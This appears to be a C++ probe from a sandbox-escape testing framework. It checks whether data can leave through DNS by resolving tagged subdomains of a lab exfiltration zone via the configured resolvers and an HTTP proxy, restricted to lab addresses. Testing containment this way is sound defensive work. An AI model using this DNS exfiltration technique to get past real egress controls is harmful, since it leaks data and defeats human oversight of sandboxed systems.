// dns.subdomain_exfil — data out through name resolution: <tag>.exfil.lab.test
// looked up through whatever resolver the sandbox offers — the nameservers in
// /etc/resolv.conf (only those that are lab addresses: loopback stubs such as
// 127.0.0.11 or 127.0.0.53 forward upstream) and, when there is a proxy, the
// proxy itself (CONNECT/GET to the name makes it resolve it). Escaped when the
// lab DNS sink logs the name.
#include "../../lab/lab_plan.hpp"
#include "../probe.hpp"
#include "../support/dns.hpp"
#include "../support/net.hpp"
#include "../support/proxy.hpp"
#include "../support/tls.hpp"

namespace lab = bottle::escape::lab;
namespace support = bottle::escape::probe::support;
namespace dns = bottle::escape::probe::support::dns;
namespace tls = bottle::escape::probe::support::tls;

BOTTLE_PROBE(dns_subdomain_exfil, "dns.subdomain_exfil",
             "resolve <tag>.exfil.lab.test via the configured resolvers and via the proxy",
             bottle::escape::probe::scoring::sink, "resolver", "proxy") {
    const auto rc = dns::read_resolv_conf();
    rep.observe("/etc/resolv.conf: " + (rc.ok ? rc.text : support::errno_name(rc.err) + " (glibc default 127.0.0.1)"));
    // One label per path (<tag>-r<n>u, <tag>-px-connect, ...), whole in the
    // query's wire form: the control run expects each at the DNS sink.
    std::vector<std::function<support::hop_result()>> jobs;
    std::vector<std::string> expects;
    std::size_t n = 0;
    for (const auto& ns : rc.nameservers) {
        ++n;
        if (!lab::is_lab_target(ns)) {
            rep.not_made("resolver", "query nameserver " + ns + " from resolv.conf", "not a lab address: skipped");
            continue;
        }
        for (bool tcp : {false, true}) {
            const std::string path_tag = ctx.tag + "-r" + std::to_string(n) + (tcp ? "t" : "u");
            expects.push_back(path_tag);
            jobs.emplace_back([path_tag, ns, tcp] {
                const std::string name = path_tag + "." + std::string(lab::exfil_zone);
                const auto e = tcp ? dns::query_tcp(ns, dns::build_query(dns::random_id(), {{name, dns::type_a, 1}}), 900)
                                   : dns::query_udp(ns, dns::build_query(dns::random_id(), {{name, dns::type_a, 1}}), 900);
                return support::hop_result{std::string(tcp ? "DNS/TCP" : "DNS/UDP") + " to resolv.conf nameserver " + ns +
                                               ": A " + name,
                                           e.outcome, e.sent, e.answer.valid ? e.answer.summary : std::string(), e.made};
            });
        }
    }
    support::record_all(rep, jobs, 12, "resolver", expects);
    if (const auto px = support::proxy_channel(rep, "proxy")) {
        const auto connect = ctx.for_path("px-connect"), get = ctx.for_path("px-get");
        const std::string connect_name = connect.tag + "." + std::string(lab::exfil_zone);
        const std::string get_name = get.tag + "." + std::string(lab::exfil_zone);
        std::vector<std::function<support::hop_result()>> via;
        via.emplace_back([&] { return support::proxy_connect(*px, connect_name + ":443", tls::client_hello(connect_name, connect.tag)); });
        via.emplace_back([&] { return support::proxy_send(*px, support::absolute_get(get, px, get_name)); });
        support::record_all(rep, via, 12, "proxy", {connect.tag, get.tag});
    }
}
